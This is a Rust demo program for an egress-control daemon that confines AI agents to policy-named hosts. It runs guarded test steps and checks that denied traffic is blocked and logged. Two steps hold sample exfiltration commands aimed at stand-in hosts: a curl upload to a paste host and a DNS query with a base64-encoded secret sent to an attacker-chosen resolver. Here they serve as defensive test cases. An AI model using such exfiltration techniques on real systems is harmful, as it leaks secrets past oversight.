//! A guided tour for newcomers: real programs under the guard, what they reach and what they do not.

use std::{
    io::{self, IsTerminal as _, Write as _},
    time::Instant,
};

use anyhow::{Context as _, Result, ensure};
use serde_json::{Value, json};
use xtask::world::{
    World,
    client::Outcome,
    place::{DENIED_V4, DENIED_V6, STRANGER_V4},
};

use crate::{
    setup,
    workspace::{build, need_root},
};

/// One thing that an agent tries.
struct Step {
    title: &'static str,
    words: &'static [&'static str],
    /// A part of the line that says how it went.
    telling: &'static str,
    /// What `egressctl why` is asked afterwards, when the policy allows it.
    allowed_as: Option<&'static str>,
}

const STEPS: [Step; 6] = [
    Step {
        title: "a web site that the policy names",
        words: &["curl", "-sS", "https://web.allowed.test/"],
        telling: "hello",
        allowed_as: Some("web.allowed.test:443/tcp"),
    },
    Step {
        title: "a Git repository on an allowed host",
        words: &[
            "git",
            "clone",
            "-q",
            "https://git.allowed.test/git/project.git",
        ],
        telling: "fatal",
        allowed_as: Some("git.allowed.test:443/tcp"),
    },
    Step {
        title: "a host that it does not name: the resolver refuses, and no query leaves the machine",
        words: &["curl", "-sS", "https://paste.denied.test/upload"],
        telling: "curl: ",
        allowed_as: None,
    },
    Step {
        title: "the same host by its address, without DNS: the kernel refuses the connect",
        words: &["curl", "-sS", "https://198.51.100.10/upload"],
        telling: "curl: ",
        allowed_as: None,
    },
    Step {
        title: "an allowed host on a port that is not allowed",
        words: &["curl", "-sS", "https://web.allowed.test:8443/"],
        telling: "curl: ",
        allowed_as: None,
    },
    Step {
        title: "a secret inside a DNS question to a server of the agent's choice",
        words: &["nslookup", "c2VjcmV0.denied.test", "198.51.100.53"],
        telling: "REFUSED",
        allowed_as: None,
    },
];

pub(crate) fn run() -> Result<()> {
    need_root("demo")?;
    let screen = Screen {
        color: io::stdout().is_terminal()
            && std::env::var_os("NO_COLOR").is_none_or(|value| value.is_empty()),
    };
    let title =
        "egressd: an agent reaches what its policy names, and nothing else. A demonstration.";
    println!("{}", screen.strong(title));
    doing("looking for what is needed", setup::install)?;
    let programs = doing("building egressd and its kernel programs", build)?;
    let world = doing(
        "building a small internet of network namespaces, and starting egressd",
        || World::builder().policy(policy()).programs(programs).build(),
    )?;
    println!(
        "The policy:  allow \"project\": *.allowed.test on 443/tcp.  Nothing else is allowed."
    );
    let capture = world.capture(&format!(
        "host {DENIED_V4} or host {DENIED_V6} or host {STRANGER_V4} or port 8443"
    ))?;
    for (number, step) in STEPS.iter().enumerate() {
        println!();
        println!(
            "{}",
            screen.strong(&format!("{}. {}", number + 1, step.title))
        );
        show(&screen, &world, step)?;
    }
    let packets = world.packets(&capture)?.len();
    let asked =
        world.resolver().saw("paste.denied.test") || world.resolver().saw("c2VjcmV0.denied.test");
    println!();
    println!(
        "Seen from the other side: {packets} packets to denied destinations, {} queries for denied names.",
        if asked { "some" } else { "0" }
    );
    screen.command("egressctl status");
    indented(&world.egressctl(&["status"])?.stdout);
    ensure!(
        packets == 0 && !asked,
        "something denied has left the machine: please report this as a bug"
    );
    println!();
    println!(
        "What you saw: ordinary programs, unchanged; the kernel and the resolver said no, at once, and why."
    );
    println!(
        "What next: egressctl policy check policy/default.json, and egressctl run -- YOUR-AGENT; see README.md."
    );
    Ok(())
}

fn show(screen: &Screen, world: &World, step: &Step) -> Result<()> {
    let client = world.guarded(step.words)?;
    screen.command(&client.spoken());
    let outcome = client.run()?;
    println!(
        "   {}  {}",
        screen.verdict(outcome.succeeded()),
        result(step, &outcome)
    );
    for line in explain(world, step)? {
        println!("   {}", screen.dim(&line));
    }
    ensure!(
        outcome.succeeded() == step.allowed_as.is_some(),
        "this step should have ended otherwise:\n{outcome}\n{}",
        world.report()
    );
    Ok(())
}

/// What egressd says about the step: which rule allows it, or the record of the denial and the rule
/// that would allow it.
fn explain(world: &World, step: &Step) -> Result<Vec<String>> {
    let (asked, words) = match step.allowed_as {
        Some(flow) => ("egressctl why", vec!["why", flow]),
        None => (
            "egressctl log",
            vec!["log", "--denied", "--explain", "-n", "1"],
        ),
    };
    let said = world.egressctl(&words)?;
    let verdict = if step.allowed_as.is_some() {
        "allow"
    } else {
        "deny"
    };
    let lines = said.stdout.lines().map(str::trim);
    // The log starts with the date.
    let told: Vec<&str> = lines
        .skip_while(|line| !line.contains(verdict))
        .take(2)
        .collect();
    ensure!(
        !told.is_empty(),
        "egressd should have had something to say:\n{said}"
    );
    let told = if step.allowed_as.is_some() {
        vec![told.join(", ")]
    } else {
        told.into_iter().map(str::to_owned).collect()
    };
    Ok(told.iter().map(|line| format!("{asked}: {line}")).collect())
}

/// What the program itself said of how it went.
fn result(step: &Step, outcome: &Outcome) -> String {
    let said = outcome.said();
    let line = said.lines().find(|line| line.contains(step.telling));
    let line = line.map(str::trim).filter(|line| !line.is_empty());
    let took = outcome.took.as_millis();
    format!("{} ({took} ms)", line.unwrap_or("done"))
}

fn policy() -> Value {
    json!({
        "version": 1,
        "name": "demo",
        "network": { "allow": [ { "name": "project", "hosts": ["*.allowed.test"], "ports": ["443/tcp"] } ] },
    })
}

/// Plain text, with a little colour on a terminal.
struct Screen {
    color: bool,
}

impl Screen {
    fn command(&self, text: &str) {
        println!("   {}", self.paint("36", &format!("$ {text}")));
    }

    fn verdict(&self, works: bool) -> String {
        if works {
            self.paint("32", "allowed")
        } else {
            self.paint("1;31", "denied ")
        }
    }

    fn strong(&self, text: &str) -> String {
        self.paint("1", text)
    }

    fn dim(&self, text: &str) -> String {
        self.paint("2", text)
    }

    fn paint(&self, code: &str, text: &str) -> String {
        if self.color {
            format!("\x1b[{code}m{text}\x1b[0m")
        } else {
            text.to_owned()
        }
    }
}

fn indented(text: &str) {
    for line in text.lines().filter(|line| !line.trim().is_empty()) {
        println!("   {line}");
    }
}

/// Says what goes on, and how long it took.
fn doing<T>(what: &str, work: impl FnOnce() -> Result<T>) -> Result<T> {
    let started = Instant::now();
    print!("{what} … ");
    io::stdout().flush().context("writing to the terminal")?;
    let result = work();
    println!("{:.1} s", started.elapsed().as_secs_f64());
    result
}
